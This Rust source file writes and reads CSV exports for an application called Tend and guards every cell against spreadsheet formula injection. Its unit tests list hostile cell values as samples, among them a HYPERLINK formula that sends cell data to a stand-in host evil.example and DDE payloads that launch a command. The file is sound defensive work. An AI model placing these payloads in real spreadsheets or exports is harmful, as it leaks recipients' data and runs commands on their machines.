//! The one CSV writer for every file Tend hands out (review export,
//! calibration export, the demo cycle). Every cell is guarded against
//! spreadsheet formulas: a cell that starts with `=`, `+`, `-`, `@`, a tab or
//! a carriage return gets a leading apostrophe, so Excel, LibreOffice and
//! Sheets show it as text instead of running it. A cell that already starts
//! with an apostrophe gets one more, which makes the guard reversible:
//! [`unguard`] gives back the original text, so importing an export restores
//! exactly what was written.

use crate::error::AppError;
use std::borrow::Cow;

/// What makes a spreadsheet treat a cell as a formula (OWASP's list), plus
/// the apostrophe itself so that guarding can be undone.
const TRIGGERS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// The cell as written to a file: text that would run as a formula starts
/// with an apostrophe.
pub fn guard(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// The text a guarded cell stood for: the inverse of [`guard`].
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) => rest,
        _ => cell,
    }
}

/// A CSV file being written: a header, then rows, every cell guarded.
pub struct CsvFile {
    writer: csv::Writer<Vec<u8>>,
}

fn fail(e: impl std::fmt::Display) -> AppError {
    AppError::internal(format!("writing CSV: {e}"))
}

impl CsvFile {
    /// A file that starts with `header`.
    pub fn new(header: &[&str]) -> Result<Self, AppError> {
        let mut file = CsvFile {
            writer: csv::Writer::from_writer(Vec::new()),
        };
        file.row(header)?;
        Ok(file)
    }

    /// One row; each cell is guarded and quoted as CSV needs.
    pub fn row<S: AsRef<str>>(&mut self, cells: &[S]) -> Result<(), AppError> {
        self.writer
            .write_record(cells.iter().map(|c| guard(c.as_ref()).into_owned()))
            .map_err(fail)
    }

    /// The whole file as text.
    pub fn finish(self) -> Result<String, AppError> {
        let bytes = self.writer.into_inner().map_err(fail)?;
        String::from_utf8(bytes).map_err(AppError::internal)
    }
}

/// A file's rows after the header, each with the line it starts on.
pub type Rows = Vec<(usize, Vec<String>)>;

/// A line that could not be read as CSV.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unreadable {
    pub line: usize,
    pub message: String,
}

/// Reads a CSV text: its header and rows, each cell unguarded (a file Tend
/// wrote reads back as written), blank lines skipped, rows of any width
/// (the caller checks cells).
pub fn records(text: &str) -> Result<(Vec<String>, Rows), Unreadable> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let mut header = None;
    let mut rows = Vec::new();
    for rec in reader.records() {
        let rec = rec.map_err(|e| Unreadable {
            line: e.position().map(|p| p.line() as usize).unwrap_or(0),
            message: "This line could not be read as CSV (check its quotes).".into(),
        })?;
        let line = rec.position().map(|p| p.line() as usize).unwrap_or(0);
        let fields: Vec<String> = rec.iter().map(|f| unguard(f).to_owned()).collect();
        if fields.iter().all(|f| f.trim().is_empty()) {
            continue;
        }
        match header {
            None => header = Some(fields),
            Some(_) => rows.push((line, fields)),
        }
    }
    let header = header.ok_or(Unreadable {
        line: 1,
        message: "The file is empty: it needs a header line and at least one row.".into(),
    })?;
    Ok((header, rows))
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: [&str; 12] = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "'=1+1",
        "''",
        "'",
        "plain, with a comma and \"quotes\"",
        "line one\nline two",
        "",
    ];

    #[test]
    fn no_cell_starts_with_a_formula_character() {
        for text in HOSTILE {
            let g = guard(text);
            assert!(
                !g.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{text:?} was written as {g:?}"
            );
        }
        assert_eq!(guard("Ada Lovelace"), "Ada Lovelace");
        assert_eq!(guard("2025-07-01"), "2025-07-01");
    }

    #[test]
    fn a_written_file_reads_back_to_the_original_text() {
        let mut file = CsvFile::new(&["n", "text"]).unwrap();
        for (i, text) in HOSTILE.iter().enumerate() {
            file.row(&[i.to_string().as_str(), text]).unwrap();
        }
        let csv = file.finish().unwrap();
        let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
        let back: Vec<String> = reader.records().map(|r| unguard(&r.unwrap()[1]).to_owned()).collect();
        assert_eq!(back, HOSTILE.map(str::to_owned).to_vec());
        // What a spreadsheet sees: no cell of the file starts a formula.
        let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
        for r in reader.records() {
            for cell in r.unwrap().iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
            }
        }
    }

    #[test]
    fn unguard_leaves_ordinary_text_alone() {
        assert_eq!(unguard("'tis the season"), "'tis the season");
        assert_eq!(unguard("O'Brien"), "O'Brien");
        assert_eq!(unguard("plain"), "plain");
    }
}
